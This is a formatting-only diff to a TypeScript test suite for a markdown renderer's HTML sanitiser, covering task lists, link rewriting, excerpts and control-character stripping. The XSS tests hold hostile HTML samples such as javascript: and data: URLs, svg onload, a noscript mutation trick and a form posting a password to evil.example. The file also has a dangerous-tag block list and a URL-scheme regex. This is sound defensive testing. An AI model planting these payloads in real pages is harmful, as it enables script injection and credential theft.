@@ -20,7 +20,24 @@ function elementsOf(html: string): Element[] {
   return found;
 }
 
-const DANGEROUS_TAGS = new Set(["script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "style", "svg", "math", "meta", "base", "link", "noscript", "template"]);
+const DANGEROUS_TAGS = new Set([
+  "script",
+  "iframe",
+  "frame",
+  "frameset",
+  "object",
+  "embed",
+  "applet",
+  "form",
+  "style",
+  "svg",
+  "math",
+  "meta",
+  "base",
+  "link",
+  "noscript",
+  "template",
+]);
 // Browsers drop ASCII whitespace and control characters inside a URL scheme before deciding what it is.
 const DANGEROUS_URL = /^(?:javascript|data|vbscript):/i;
 
@@ -55,7 +72,9 @@ describe("renderMarkdown", () => {
       const { html } = renderMarkdown("- [x] done\n- [ ] todo", AT_ROOT);
       const boxes = elementsOf(html).filter((e) => e.tagName === "input");
       expect(boxes).toHaveLength(2);
-      expect(boxes.map((b) => [b.properties.type, b.properties.checked === true, b.properties.disabled === true])).toEqual([
+      expect(
+        boxes.map((b) => [b.properties.type, b.properties.checked === true, b.properties.disabled === true]),
+      ).toEqual([
         ["checkbox", true, true],
         ["checkbox", false, true],
       ]);
@@ -66,7 +85,9 @@ describe("renderMarkdown", () => {
     });
 
     it("links bare URLs", () => {
-      expect(renderMarkdown("See https://grid.example/report today.", AT_ROOT).html).toContain('<a href="https://grid.example/report">https://grid.example/report</a>');
+      expect(renderMarkdown("See https://grid.example/report today.", AT_ROOT).html).toContain(
+        '<a href="https://grid.example/report">https://grid.example/report</a>',
+      );
     });
   });
 
@@ -98,7 +119,10 @@ describe("renderMarkdown", () => {
       { name: "an iframe with srcdoc", md: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
       { name: "an object", md: '<object data="movie.swf" type="application/x-shockwave-flash"></object>' },
       { name: "an embed", md: '<embed src="movie.swf">' },
-      { name: "a form", md: '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>' },
+      {
+        name: "a form",
+        md: '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>',
+      },
       { name: "a formaction button", md: '<button formaction="javascript:alert(1)">go</button>' },
       { name: "a script inside svg", md: "<svg><script>alert(1)</script></svg>" },
       { name: "an svg onload", md: "<svg onload=alert(1)></svg>" },
@@ -107,10 +131,19 @@ describe("renderMarkdown", () => {
       { name: "a style attribute", md: '<p style="background:url(javascript:alert(1))">x</p>' },
       { name: "a meta refresh", md: '<meta http-equiv="refresh" content="0;url=https://evil.example/">' },
       { name: "a base element", md: '<base href="https://evil.example/">' },
-      { name: "a noscript mutation trick", md: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
+      {
+        name: "a noscript mutation trick",
+        md: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+      },
       // Found by the hostile corpus (tests/fixtures/hostile): GitHub's schema checks no scheme in srcset or action.
-      { name: "a javascript: srcset in <picture>", md: '<picture><source srcset="javascript:alert(1)"><img src="/a.png" alt="a"></picture>' },
-      { name: "a data: srcset with a leading space", md: '<picture><source srcset=" data:text/html,<script>alert(1)</script> 1x"></picture>' },
+      {
+        name: "a javascript: srcset in <picture>",
+        md: '<picture><source srcset="javascript:alert(1)"><img src="/a.png" alt="a"></picture>',
+      },
+      {
+        name: "a data: srcset with a leading space",
+        md: '<picture><source srcset=" data:text/html,<script>alert(1)</script> 1x"></picture>',
+      },
       { name: "a javascript: action on a harmless element", md: '<p action="javascript:alert(1)">x</p>' },
     ])("removes $name from html and absoluteHtml", ({ md }) => {
       for (const context of [AT_ROOT, UNDER_NEWS]) {
@@ -121,7 +154,10 @@ describe("renderMarkdown", () => {
     });
 
     it("drops script content entirely instead of showing it as text", () => {
-      const { html, absoluteHtml } = renderMarkdown("Before\n\n<script>alert(1)</script>\n\n<svg><script>steal()</script></svg>\n\nAfter", AT_ROOT);
+      const { html, absoluteHtml } = renderMarkdown(
+        "Before\n\n<script>alert(1)</script>\n\n<svg><script>steal()</script></svg>\n\nAfter",
+        AT_ROOT,
+      );
       expect(html).not.toMatch(/alert|steal/);
       expect(absoluteHtml).not.toMatch(/alert|steal/);
       expect(html).toMatch(/Before[\s\S]*After/);
@@ -134,12 +170,18 @@ describe("renderMarkdown", () => {
     });
 
     it("keeps http(s) and relative srcset candidates", () => {
-      const { html } = renderMarkdown('<picture><source srcset="https://cdn.example/a.webp 1x, /b.webp 2x"><img src="/a.png" alt="a"></picture>', AT_ROOT);
+      const { html } = renderMarkdown(
+        '<picture><source srcset="https://cdn.example/a.webp 1x, /b.webp 2x"><img src="/a.png" alt="a"></picture>',
+        AT_ROOT,
+      );
       expect(html).toContain('<source srcset="https://cdn.example/a.webp 1x, /b.webp 2x">');
     });
 
     it("keeps harmless raw HTML", () => {
-      const { html } = renderMarkdown("<details><summary>More</summary>Hidden detail</details>\n\n<kbd>Ctrl</kbd>", AT_ROOT);
+      const { html } = renderMarkdown(
+        "<details><summary>More</summary>Hidden detail</details>\n\n<kbd>Ctrl</kbd>",
+        AT_ROOT,
+      );
       expect(html).toContain("<details><summary>More</summary>Hidden detail</details>");
       expect(html).toContain("<kbd>Ctrl</kbd>");
     });
@@ -154,10 +196,13 @@ describe("renderMarkdown", () => {
   });
 
   describe("URLs", () => {
-    const md = "[rel](../other/) ![img](/images/a.png) [root](/about/) [frag](#sec) [ext](https://ext.example/x) [mail](mailto:desk@site.example) [query](?page=2) [cdn](//cdn.example/x.js)";
+    const md =
+      "[rel](../other/) ![img](/images/a.png) [root](/about/) [frag](#sec) [ext](https://ext.example/x) [mail](mailto:desk@site.example) [query](?page=2) [cdn](//cdn.example/x.js)";
 
     it("makes every relative URL absolute in absoluteHtml", () => {
-      const links = elementsOf(renderMarkdown(md, UNDER_NEWS).absoluteHtml).flatMap((e) => [e.properties.href, e.properties.src].filter((v) => v !== undefined));
+      const links = elementsOf(renderMarkdown(md, UNDER_NEWS).absoluteHtml).flatMap((e) =>
+        [e.properties.href, e.properties.src].filter((v) => v !== undefined),
+      );
       expect(links).toEqual([
         "https://site.example/news/articles/other/",
         "https://site.example/news/images/a.png",
@@ -171,8 +216,19 @@ describe("renderMarkdown", () => {
     });
 
     it("prefixes the base path to root-relative URLs in html and leaves the others as written", () => {
-      const links = elementsOf(renderMarkdown(md, UNDER_NEWS).html).flatMap((e) => [e.properties.href, e.properties.src].filter((v) => v !== undefined));
-      expect(links).toEqual(["../other/", "/news/images/a.png", "/news/about/", "#sec", "https://ext.example/x", "mailto:desk@site.example", "?page=2", "//cdn.example/x.js"]);
+      const links = elementsOf(renderMarkdown(md, UNDER_NEWS).html).flatMap((e) =>
+        [e.properties.href, e.properties.src].filter((v) => v !== undefined),
+      );
+      expect(links).toEqual([
+        "../other/",
+        "/news/images/a.png",
+        "/news/about/",
+        "#sec",
+        "https://ext.example/x",
+        "mailto:desk@site.example",
+        "?page=2",
+        "//cdn.example/x.js",
+      ]);
     });
 
     it("does not prefix the base path twice", () => {
@@ -192,8 +248,15 @@ describe("renderMarkdown", () => {
     });
 
     it("loads images lazily", () => {
-      const [img] = elementsOf(renderMarkdown("![a map](/images/map.svg)", AT_ROOT).html).filter((e) => e.tagName === "img");
-      expect(img!.properties).toMatchObject({ src: "/images/map.svg", alt: "a map", loading: "lazy", decoding: "async" });
+      const [img] = elementsOf(renderMarkdown("![a map](/images/map.svg)", AT_ROOT).html).filter(
+        (e) => e.tagName === "img",
+      );
+      expect(img!.properties).toMatchObject({
+        src: "/images/map.svg",
+        alt: "a map",
+        loading: "lazy",
+        decoding: "async",
+      });
     });
   });
 
@@ -205,7 +268,9 @@ describe("renderMarkdown", () => {
     });
 
     it("skips headings, lists and tables when looking for the excerpt", () => {
-      expect(renderMarkdown("## Heading\n\n- item\n\n| a |\n|---|\n| b |\n\nThe real start.", AT_ROOT).excerpt).toBe("The real start.");
+      expect(renderMarkdown("## Heading\n\n- item\n\n| a |\n|---|\n| b |\n\nThe real start.", AT_ROOT).excerpt).toBe(
+        "The real start.",
+      );
     });
 
     it("gives an empty excerpt when there is no paragraph", () => {
@@ -237,7 +302,10 @@ describe("the renderer as builds use it (withPlainTextFallback)", () => {
   const render = withPlainTextFallback(renderMarkdown);
 
   it("removes control characters and noncharacters from bodies, as from front-matter and feeds", () => {
-    const out = render("Bell\u0007 escape\u001b[31m null\u0000 nonchar\uFFFE\uFDD0 kept: tab\there, emoji 😀\n\n`code\u0007`", AT_ROOT);
+    const out = render(
+      "Bell\u0007 escape\u001b[31m null\u0000 nonchar\uFFFE\uFDD0 kept: tab\there, emoji 😀\n\n`code\u0007`",
+      AT_ROOT,
+    );
     for (const html of [out.html, out.absoluteHtml]) {
       expect(html).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\uFDD0-\uFDEF\uFFFE\uFFFF]/);
       expect(html).toContain("tab\there, emoji 😀");
